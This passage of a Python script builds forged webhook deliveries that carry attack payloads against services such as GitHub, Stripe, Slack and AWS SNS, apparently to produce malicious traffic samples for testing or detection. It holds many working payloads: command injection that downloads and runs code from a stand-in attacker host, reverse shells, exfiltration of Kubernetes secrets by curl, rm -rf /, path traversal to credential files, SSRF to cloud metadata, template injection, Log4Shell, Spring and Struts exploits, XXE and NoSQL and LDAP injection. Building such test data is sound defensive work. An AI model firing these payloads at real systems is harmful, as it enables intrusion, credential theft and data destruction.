         ("hubspot", hubspot, lambda p: {"propertyName": "company", "propertyValue": p}),
         ("hubspot", hubspot, lambda p: {"n": 1, "sourceId": p}),
         ("segment", segment, lambda p: {"type": "track", "userId": p}),
         ("segment", segment, lambda p: {"type": "track", "event": "Order Completed", "properties": {"order_id": p, "total": 10}}),
         ("twilio", twilio, lambda p: {"kind": "inbound", "body": p}),
         ("twilio", twilio, lambda p: {"kind": "status", "from": p}),
         ("typeform", typeform, lambda p: {"hidden": {"user_id": p}}),
         ("calendly", calendly, lambda p: {"qa": [{"question": "Company name", "answer": p, "position": 0}]}),
         ("zendesk", zendesk, lambda p: {"style": "custom", "custom_fields": {"order_number": p}}),
         ("freshdesk", freshdesk, lambda p: {"cf_order": p}),
         ("sendgrid", sendgrid_events, lambda p: {"n": 2, "unique_args": {"user_id": p}}),
         ("postmark", postmark_bounce, lambda p: {"metadata": {"customer_id": p}}),
         ("intercom", intercom, lambda p: {"topic": "contact.user.created", "external_id": p}),
         ("svix", svix, lambda p: {"app": "resend", "tags": {"order": p}}),
         ("eventbridge", eventbridge, lambda p: {"detail_type": "OrderPlaced", "detail": {"orderId": p, "items": 2}}),
         ("pubsub", pubsub, lambda p: {"inner": J({"orderId": p, "status": "PAID"})}),
         ("sns", sns, lambda p: {"mtype": "Notification", "message": J({"order_id": p, "status": "created"})}),
         ("eventgrid", eventgrid, lambda p: {"kind": "custom", "data": {"orderId": p, "total": 12.5}}),
         ("relay", relay, lambda p: {"who": "zapier", "data": {"Name": "Zoë", "row_id": p, "Status": "New"}}),
         ("jotform", jotform, lambda p: {"answer": p}),
         ("auth0", auth0, lambda p: {"n": 1, "user_id": p})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("sqli", prov, fn(mk(next(pc))))
    emit("sqli", "probe", probe("POST", "/api/stripe/webhook?account=" + q("acct_1' AND SLEEP(5)-- -"), pick(CURL_UA), ct="application/json", body='{"id":"evt_test","type":"ping"}'))
    emit("sqli", "probe", probe("GET", "/webhooks/shopify/orders?shop=" + q("x' UNION SELECT access_token,2 FROM shops--"), pick(CURL_UA)))


def attacks_rce():
    P = ["main;curl -s http://%s/x.sh|sh" % EVIL,
         "$(id)",
         "feature/$(curl${IFS}-s${IFS}%s/i|bash)" % EVIL,
         "`whoami`",
         "app && wget http://%s/b -O /tmp/b && chmod +x /tmp/b && /tmp/b" % EVIL,
         "report.pdf; rm -rf / --no-preserve-root #",
         "x | nc %s 4444 -e /bin/sh" % ATK_IP,
         ";bash -i >& /dev/tcp/%s/4444 0>&1" % ATK_IP,
         "$(echo${IFS}Y3VybCBldmlsLmV4YW1wbGV8c2g=|base64${IFS}-d|sh)",
         "v1.2.3$(touch${IFS}/tmp/pwned)",
         "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'" % ATK_IP,
         "prod; cat /etc/shadow",
         "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         "| certutil -urlcache -split -f http://%s/a.exe %%TEMP%%\\a.exe" % EVIL,
         "main`curl %s/$(hostname)`" % EVIL,
         "$(kubectl get secrets -A -o json|curl -d @- http://%s/k)" % EVIL,
         "; cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://%s/t" % EVIL,
         "|| id #",
         "x;${IFS}/bin/busybox${IFS}wget${IFS}http://%s/m" % EVIL,
         "--upload-pack=touch /tmp/pwned",
         "-oProxyCommand=curl %s|sh" % EVIL,
         "a; perl -e 'use Socket;$i=\"%s\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\")'" % ATK_IP,
         "release\n/bin/sh -c id\n",
         "1.0.0;{echo,aWQ=}|{base64,-d}|{bash,-i}"]
    T = [("github", github, lambda p: {"event": "push", "branch": p}),
         ("github", github, lambda p: {"event": "create", "tag": p}),
         ("github", github, lambda p: {"event": "workflow_run", "branch": p}),
         ("github", github, lambda p: {"event": "push", "repo": "acme/" + p}),
         ("github", github, lambda p: {"event": "push", "files": (["docs/" + p], [], [])}),
         ("github", github, lambda p: {"event": "release", "tag": p}),
         ("gitlab", gitlab, lambda p: {"event": "push", "branch": p}),
         ("gitlab", gitlab, lambda p: {"event": "tag_push", "tag": p}),
         ("gitlab", gitlab, lambda p: {"event": "pipeline", "variables": [{"key": "DEPLOY_TARGET", "value": p}]}),
         ("bitbucket", bitbucket, lambda p: {"event": "repo:push", "branch": p}),
         ("circleci", circleci, lambda p: {"branch": p}),
         ("buildkite", buildkite, lambda p: {"branch": p}),
         ("buildkite", buildkite, lambda p: {"meta_data": {"release-version": p}}),
         ("vercel", vercel, lambda p: {"branch": p}),
         ("netlify", netlify, lambda p: {"branch": p}),
         ("dockerhub", dockerhub, lambda p: {"tag": p}),
         ("harbor", harbor, lambda p: {"tag": p}),
         ("harbor", harbor, lambda p: {"name": p}),
         ("slack", slack, lambda p: {"kind": "slash", "command": "/deploy", "text": "payments-api " + p}),
         ("slack", slack, lambda p: {"kind": "interactive", "value": "deploy:payments-api:" + p}),
         ("discord", discord, lambda p: {"type": 2, "command": "status", "value": p}),
         ("msgraph", msgraph, lambda p: {"kind": "teams_outgoing", "text": "deploy " + p}),
         ("eventbridge", eventbridge, lambda p: {"detail_type": "ECR Image Action", "detail": {"result": "SUCCESS", "repository-name": "acme/api", "action-type": "PUSH", "image-tag": p}}),
         ("sns", sns, lambda p: {"mtype": "Notification", "message": J({"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": "acme-uploads"}, "object": {"key": q("uploads/" + p, safe="/"), "size": 12}}}]})}),
         ("pubsub", pubsub, lambda p: {"inner": J({"kind": "storage#object", "name": "uploads/" + p, "bucket": "acme-uploads"})}),
         ("eventgrid", eventgrid, lambda p: {"kind": "blob", "blob_name": p}),
         ("cloudevents", cloudevents, lambda p: {"ce_subject": p}),
         ("linear", linear, lambda p: {"type": "Issue", "branch": p}),
         ("relay", relay, lambda p: {"who": "n8n", "data": {"filename": p, "action": "convert"}})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("rce", prov, fn(mk(next(pc))))
    # Kubernetes admission webhook: ingress-nginx annotation injection (IngressNightmare-style)
    emit("rce", "k8s-admission", k8s_admission({"kind": "Ingress", "uri": "/networking/v1/ingresses?timeout=10s",
                                                "annotations": {"nginx.ingress.kubernetes.io/auth-url": "http://auth.example.com/#;\nload_module /proc/self/fd/12;\n"}}))
    emit("rce", "k8s-admission", k8s_admission({"kind": "Pod", "args": ["-c", "curl -s http://%s/x|sh" % EVIL], "image": "alpine;$(id)"}))
    # exploit probes at webhook endpoints
    emit("rce", "probe", probe("GET", "/rest/api/latest/projects/ACME/repos/payments-api/archive?filename=x&at=x&path=x&prefix=ax%00--exec=%60id%60%00--remote=origin",
                               pick(CURL_UA)))
    emit("rce", "probe", probe("POST", "/webhooks/github?cmd=" + q(";id;uname -a"), pick(CURL_UA), ct="application/json", body='{"zen":"ping"}'))
    emit("rce", "probe", probe("POST", "/github-webhook/../script", pick(CURL_UA), ct="application/x-www-form-urlencoded",
                               body=form([("script", "def p = \"id\".execute(); println p.text")])))


def attacks_lfi():
    P = ["../../../../etc/passwd",
         "..\\..\\..\\..\\windows\\win.ini",
         "....//....//....//etc/shadow",
         "/proc/self/environ",
         "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
         "../../../../../../root/.ssh/id_rsa",
         "../../.env",
         "/etc/passwd\x00.png",
         "..%2f..%2f..%2f..%2fetc%2fpasswd",
         "../../../../proc/self/cmdline",
         "..\\..\\..\\inetpub\\wwwroot\\web.config",
         "../../../../home/app/.aws/credentials"]
    T = [("mailgun", mailgun, lambda p: {"attachments": [(p, "hello\r\n", "text/plain")]}),
         ("sendgrid-inbound", sendgrid_inbound, lambda p: {"attachments": [(p, "x,y\r\n1,2\r\n", "text/csv")]}),
         ("postmark", postmark, lambda p: {"attachments": [{"Name": p, "Content": PDF_B64, "ContentType": "application/pdf", "ContentLength": 240, "ContentID": ""}]}),
         ("jotform", jotform, lambda p: {"upload": "https://www.jotform.com/uploads/acme_forms/2%s/%s/%s" % (digits(14), digits(19), p)}),
         ("intercom", intercom, lambda p: {"topic": "conversation.user.created", "attachments": [{"type": "upload", "name": p, "url": "https://downloads.intercomcdn.com/i/o/%d/%s/x.pdf" % (R.randint(10**8, 9 * 10**8), hexs(24)), "content_type": "application/pdf", "filesize": 240}]}),
         ("github", github, lambda p: {"event": "push", "files": ([p], [], [])}),
         ("sns", sns, lambda p: {"mtype": "Notification", "message": J({"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": "acme-uploads"}, "object": {"key": p, "size": 12}}}]})}),
         ("pubsub", pubsub, lambda p: {"inner": J({"kind": "storage#object", "name": p, "bucket": "acme-uploads"}), "attrs": {"eventType": "OBJECT_FINALIZE", "objectId": p}}),
         ("eventgrid", eventgrid, lambda p: {"kind": "blob", "blob_name": p}),
         ("docusign", docusign, lambda p: {"xml": True, "doc_name": xesc(p)}),
         ("zendesk", zendesk, lambda p: {"style": "custom", "custom_fields": {"attachment_path": p}}),
         ("slack", slack, lambda p: {"kind": "interactive", "value": "export:download:" + p}),
         ("relay", relay, lambda p: {"who": "make", "data": {"template": p, "action": "render_invoice"}}),
         ("typeform", typeform, lambda p: {"answer": p})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("lfi", prov, fn(mk(next(pc))))
    for uri in ["/webhooks/github/../../../../etc/passwd", "/api/stripe/webhook?template=../../../../etc/passwd",
                "/webhooks/attachments?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/hooks/download?path=/proc/self/environ",
                "/slack/events/..%252f..%252f..%252f..%252fetc/passwd", "/webhooks/mailgun/inbound?attachment=....//....//....//var/run/secrets/kubernetes.io/serviceaccount/token",
                "/api/v1/integrations/github/events?log=..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
                "/webhooks/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"]:
        emit("lfi", "probe", probe("GET", uri, pick(CURL_UA)))


def attacks_ssrf():
    P = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
         "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
         "http://169.254.170.2/v2/credentials",
         "http://[fd00:ec2::254]/latest/meta-data/",
         "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
         "http://127.0.0.1:10255/pods",
         "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
         "http://localhost:8500/v1/agent/self",
         "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A",
         "dict://127.0.0.1:11211/stats",
         "http://2852039166/latest/meta-data/",
         "http://0x7f000001:2379/v2/keys/?recursive=true",
         "http://[::ffff:169.254.169.254]/latest/user-data",
         "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
         "file:///etc/passwd",
         "http://127.0.0.1:9090/api/v1/status/config",
         "http://0.0.0.0:15000/config_dump",
         "http://localhost:2019/config/",
         "http://127.1:8080/actuator/env",
         "http://10.96.0.1:443/api/v1/nodes"]
    T = [("sns", sns, lambda p: {"mtype": "SubscriptionConfirmation", "subscribe_url": p}),
         ("sns", sns, lambda p: {"mtype": "SubscriptionConfirmation", "subscribe_url": p}),
         ("sns", sns, lambda p: {"mtype": "Notification", "cert_url": p}),
         ("eventgrid", eventgrid, lambda p: {"kind": "validate", "validation_url": p}),
         ("eventgrid", eventgrid, lambda p: {"kind": "validate", "validation_url": p}),
         ("eventgrid", eventgrid, lambda p: {"kind": "blob", "blob_url": p}),
         ("msgraph", msgraph, lambda p: {"kind": "notify", "notificationUrl": p}),
         ("msgraph", msgraph, lambda p: {"kind": "teams_outgoing", "serviceUrl": p}),
         ("slack", slack, lambda p: {"kind": "slash", "response_url": p}),
         ("slack", slack, lambda p: {"kind": "interactive", "response_url": p}),
         ("slack", slack, lambda p: {"kind": "event", "etype": "team_join", "image": p}),
         ("github", github, lambda p: {"event": "push", "avatar_url": p}),
         ("github", github, lambda p: {"event": "ping", "hook_url": p}),
         ("dockerhub", dockerhub, lambda p: {"callback_url": p}),
         ("twilio", twilio, lambda p: {"kind": "inbound", "num_media": 1, "media_url": p}),
         ("mailgun", mailgun, lambda p: {"message_url": p}),
         ("paypal", paypal, lambda p: {"cert_url": p}),
         ("typeform", typeform, lambda p: {"file_url": p}),
         ("zoom", zoom, lambda p: {"event": "recording.completed", "download_url": p}),
         ("grafana", grafana, lambda p: {"imageURL": p}),
         ("datadog", datadog, lambda p: {"snapshot": p}),
         ("svix", svix, lambda p: {"app": "clerk", "image_url": p}),
         ("calendly", calendly, lambda p: {"cancel_url": p}),
         ("docusign", docusign, lambda p: {"json": True, "documentsUri": p}),
         ("harbor", harbor, lambda p: {"resource_url": p}),
         ("stripe", stripe, lambda p: {"type": "checkout.session.completed", "success_url": p})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("ssrf", prov, fn(mk(next(pc))))
    emit("ssrf", "probe", probe("GET", "/webhooks/proxy?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/", safe=""), pick(CURL_UA)))


def attacks_ssti():
    P = ["{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
         "{{''.__class__.__mro__[1].__subclasses__()}}",
         "${7*7}<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
         "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
         "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
         "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
         "<%= system('id') %>",
         "*{T(java.lang.Runtime).getRuntime().exec('id')}",
         "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
         "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
         "{{['id']|filter('system')}}",
         "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
         "{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}",
         "{{cycler.__init__.__globals__.os.popen('id').read()}}",
         "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
         "{php}echo `id`;{/php}",
         "{{= global.process.mainModule.require('child_process').execSync('id') }}",
         "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"cat /etc/passwd\")}",
         "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
         "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}",
         "{{config.items()}}{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
         "<%= `cat /etc/passwd` %>"]
    T = [("typeform", typeform, lambda p: {"answer": p}),
         ("gforms", gforms, lambda p: {"answer": p}),
         ("jotform", jotform, lambda p: {"answer": p}),
         ("calendly", calendly, lambda p: {"qa": [{"question": "What would you like to discuss?", "answer": p, "position": 0}]}),
         ("mailgun", mailgun, lambda p: {"subject": p}),
         ("postmark", postmark, lambda p: {"subject": p}),
         ("sendgrid-inbound", sendgrid_inbound, lambda p: {"subject": p}),
         ("zendesk", zendesk, lambda p: {"subject": p}),
         ("intercom", intercom, lambda p: {"body_html": "<p>%s</p>" % hesc(p), "topic": "conversation.user.replied"}),
         ("hubspot", hubspot, lambda p: {"propertyName": "firstname", "propertyValue": p}),
         ("stripe", stripe, lambda p: {"type": "customer.created", "name": p}),
         ("shopify", shopify, lambda p: {"topic": "orders/create", "note": p}),
         ("shopify", shopify, lambda p: {"topic": "customers/create", "first_name": p}),
         ("woocommerce", woocommerce, lambda p: {"topic": "customer.created", "first_name": p}),
         ("slack", slack, lambda p: {"kind": "view_submission", "value": p}),
         ("zoom", zoom, lambda p: {"event": "meeting.started", "topic": p}),
         ("linear", linear, lambda p: {"type": "Issue", "title": p}),
         ("segment", segment, lambda p: {"type": "identify", "traits": {"name": p, "email": "x@example.com"}}),
         ("relay", relay, lambda p: {"who": "zapier", "data": {"first_name": p, "email": "lead@example.com", "message": "hi"}}),
         ("docusign", docusign, lambda p: {"json": True, "subject": p}),
         ("svix", svix, lambda p: {"app": "resend", "subject": p}),
         ("freshdesk", freshdesk, lambda p: {"subject": p})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("ssti", prov, fn(mk(next(pc))))


XXE_DT = [
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    ('<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;%int;%trick;]>', "Acme"),
    ('<!DOCTYPE n [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>', "&meta;"),
    ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>', "&lol4;"),
    ('<!DOCTYPE d [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>', "&src;"),
    ('<!DOCTYPE d [<!ENTITY x SYSTEM "expect://id">]>', "&x;"),
    ('<!DOCTYPE x PUBLIC "-//ACME//DTD Notify//EN" "http://evil.example/ext.dtd">', "Acme"),
    ('<!DOCTYPE j [<!ENTITY z SYSTEM "jar:http://evil.example/x.zip!/a.txt">]>', "&z;"),
    ('<!DOCTYPE h [<!ENTITY h SYSTEM "netdoc:///etc/hosts">]>', "&h;"),
    ('<!DOCTYPE e [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/&#x25;file;\'>">%eval;%error;]>', "Acme"),
    ('<!DOCTYPE w [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>', "&win;"),
]


def attacks_xxe():
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n'
    for i, (dt, ref) in enumerate(XXE_DT):
        if i % 3 == 0:
            emit("xxe", "salesforce", salesforce({"prolog": decl + dt, "raw_values": True, "object": "Lead",
                                                  "fields": [("FirstName", "Zoe"), ("LastName", ref), ("Company", "Acme")]}))
        elif i % 3 == 1:
            emit("xxe", "docusign", docusign({"xml": True, "prolog": decl + dt, "xml_name": ref}))
        else:
            emit("xxe", "websub", websub({"verify": False, "xml": decl + dt + '<feed xmlns="http://www.w3.org/2005/Atom"><title>%s</title><entry><id>yt:video:%s</id><title>%s</title></entry></feed>' % (ref, alnum(11), ref)}))
    xi = ('<?xml version="1.0" encoding="UTF-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
          '<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>00D%s</OrganizationId><Notification><Id>04l%s</Id>'
          '<sObject xmlns:sf="urn:sobject.enterprise.soap.sforce.com"><sf:Description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
          'href="file:///var/run/secrets/kubernetes.io/serviceaccount/token"/></sf:Description></sObject></Notification></notifications></soapenv:Body></soapenv:Envelope>') % (alnum(12), alnum(12))
    emit("xxe", "salesforce", REQ("POST", "/salesforce/outbound", [["Host", pick(HOSTS)], ["Content-Type", "text/xml; charset=utf-8"], ["Accept", "text/xml"],
                                                                   ["User-Agent", "Jakarta Commons-HttpClient/3.1"], ["SOAPAction", "\"\""]], xi))
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>')
    emit("xxe", "mailgun", mailgun({"attachments": [("logo.svg", svg, "image/svg+xml")]}))
    emit("xxe", "sendgrid-inbound", sendgrid_inbound({"attachments": [("avatar.svg", svg.replace("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"), "image/svg+xml")]}))
    # UTF-16 encoded DocuSign Connect body: the bytes must be exact
    x16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<DocuSignEnvelopeInformation xmlns="http://www.docusign.net/API/3.0"><EnvelopeStatus><UserName>&x;</UserName></EnvelopeStatus></DocuSignEnvelopeInformation>')
    b = b"\xff\xfe" + x16.encode("utf-16-le")
    head = ("POST /webhooks/docusign HTTP/1.1\r\nHost: %s\r\nUser-Agent: DocuSign Connect\r\nContent-Type: text/xml; charset=utf-16\r\n"
            "Content-Length: %d\r\nX-DocuSign-Signature-1: %s\r\n\r\n") % (pick(HOSTS), len(b), b64(rbytes(32)))
    emit_raw("xxe", "docusign", head.encode() + b)


def attacks_java():
    J4 = ["${jndi:ldap://203.0.113.9:1389/Exploit}",
          "${${lower:j}ndi:${lower:l}dap://%s/a}" % EVIL,
          "${${::-j}${::-n}${::-d}${::-i}:rmi://%s:1099/o}" % EVIL,
          "${jndi:dns://%s/x}" % EVIL,
          "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/z}" % EVIL,
          "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.%s/a}" % EVIL,
          "${${upper:j}ndi:ldaps://%s/b}" % EVIL,
          "${jndi:${lower:r}mi://%s/c}" % EVIL]
    jc = cyc(J4)
    # in headers of forged deliveries
    r = github({"event": "push", "ua": "GitHub-Hookshot/" + next(jc)})
    emit("java", "github", r)
    r = stripe({"type": "charge.succeeded"})
    r[2].append(["X-Request-Id", next(jc)])
    emit("java", "stripe", r)
    r = jira({"event": "jira:issue_created"})
    r[2].append(["X-Forwarded-For", next(jc)])
    emit("java", "jira", r)
    r = slack({"kind": "event"})
    r[2].append(["Referer", next(jc)])
    emit("java", "slack", r)
    # in body fields of Java receivers
    emit("java", "github", github({"event": "push", "author_name": next(jc)}))
    emit("java", "jira", jira({"summary": next(jc)}))
    emit("java", "okta", okta({"verify": False, "raw_ua": next(jc)}))
    emit("java", "auth0", auth0({"n": 1, "user_agent": next(jc)}))
    emit("java", "segment", segment({"type": "track", "ua_ctx": next(jc)}))
    emit("java", "salesforce", salesforce({"object": "Case", "fields": [("Subject", next(jc)), ("Status", "New")]}))
    emit("java", "sendgrid", sendgrid_events({"n": 1, "unique_args": {"user_agent": J4[0]}}))
    # Java deserialization gadgets inside JSON / headers
    emit("java", "stripe", stripe({"type": "customer.created", "metadata": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://%s:1389/Exploit" % EVIL, "autoCommit": True}}))
    emit("java", "segment", segment({"type": "track", "properties": {"payload": ["ch.qos.logback.core.db.DriverManagerConnectionSource",
                                                                                 {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://%s/x.sql'" % EVIL}]}}))
    emit("java", "sns", sns({"mtype": "Notification", "message": "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3LjoYjqcyKkSAIAAkwACmNvbXBhcmF0b3JxAH4AAUwACHByb3BlcnR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA="}))
    ser = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04portL\x00\tauthorityt\x00\x12Ljava/lang/String;xp\xff\xff\xff\xff\xff\xff\xff\xfft\x00\x0cevil.example"
    head = ("POST /webhooks/jenkins HTTP/1.1\r\nHost: %s\r\nUser-Agent: Java/17.0.9\r\nContent-Type: application/x-java-serialized-object\r\nContent-Length: %d\r\n\r\n" % (pick(HOSTS), len(ser))).encode()
    emit_raw("java", "probe", head + ser)
    # framework exploits aimed at webhook endpoints
    emit("java", "probe", probe("POST", "/webhooks/stripe", pick(CURL_UA), ct="application/x-www-form-urlencoded",
                                body="class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="))
    emit("java", "probe", probe("POST", "/functionRouter", pick(CURL_UA), ct="text/plain", body="webhook",
                                extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://%s/s\")" % EVIL]]))
    emit("java", "probe", probe("POST", "/webhooks/salesforce.action", pick(CURL_UA),
                                ct="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
                                body=""))
    emit("java", "probe", probe("GET", "/webhooks/confluence/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", pick(CURL_UA)))
    emit("java", "probe", probe("POST", "/webhooks/flux", pick(CURL_UA), ct="application/x-yaml",
                                body="kind: Receiver\nspec:\n  payload: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://%s/yaml-payload.jar\"]]]]\n" % EVIL))
    emit("java", "jira", jira({"summary": "#{T(java.lang.Runtime).getRuntime().exec('curl http://%s/j')}" % EVIL}))


def attacks_nosqli():
    emit("nosqli", "stripe", stripe({"type": "payment_intent.succeeded", "metadata": {"customer_id": {"$ne": None}}}))
    emit("nosqli", "segment", segment({"type": "identify", "userId": {"$gt": ""}}))
    emit("nosqli", "calendly", calendly({"email": {"$regex": ".*"}}))
    emit("nosqli", "auth0", auth0({"n": 1, "user_id": {"$ne": None}}))
    emit("nosqli", "svix", svix({"app": "clerk", "external_id": {"$where": "sleep(5000) || true"}}))
    emit("nosqli", "typeform", typeform({"hidden": {"user_id": {"$ne": "x"}, "utm_source": "ads"}}))
    emit("nosqli", "intercom", intercom({"topic": "contact.user.created", "external_id": {"$gt": ""}}))
    emit("nosqli", "hubspot", hubspot({"n": 1, "objectId": {"$nin": []}}))
    emit("nosqli", "shopify", shopify({"topic": "customers/create", "email": {"$regex": "^adm"}}))
    emit("nosqli", "relay", relay({"who": "make", "data": {"email": "lead@example.com", "account": {"$where": "this.password.match(/.*/) || sleep(5000)"}}}))
    emit("nosqli", "paddle", paddle({"custom_data": {"workspace_id": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}}))
    emit("nosqli", "twilio", twilio({"kind": "status", "extra": [("From[$ne]", "x"), ("AccountSid[$exists]", "true")]}))
    emit("nosqli", "slack", REQ("POST", "/slack/commands", [["Host", pick(HOSTS)], ["User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"],
                                                            ["Content-Type", "application/x-www-form-urlencoded"]],
                                "token=%s&team_id[$ne]=1&user_id[$regex]=.*&command=%%2Fdeploy&text=prod" % alnum(24)))
    emit("nosqli", "probe", probe("POST", "/api/stripe/webhook?account[$ne]=1&livemode[$exists]=true", pick(CURL_UA), ct="application/json", body='{"id":"evt_1","type":"ping"}'))
    emit("nosqli", "linear", linear({"type": "Issue", "title": "x', $where: '1 == 1"}))


def attacks_ldapi():
    emit("ldapi", "scim", scim({"op": "create", "userName": "*)(uid=*))(|(uid=*"}))
    emit("ldapi", "scim", scim({"op": "filter", "filter": 'userName eq "jdoe)(|(objectClass=*)"'}))
    emit("ldapi", "scim", scim({"op": "patch", "path": "displayName", "value": "*)(userPassword=*)"}))
    emit("ldapi", "scim", scim({"op": "create", "externalId": "x*)(|(mail=*", "client": "azure"}))
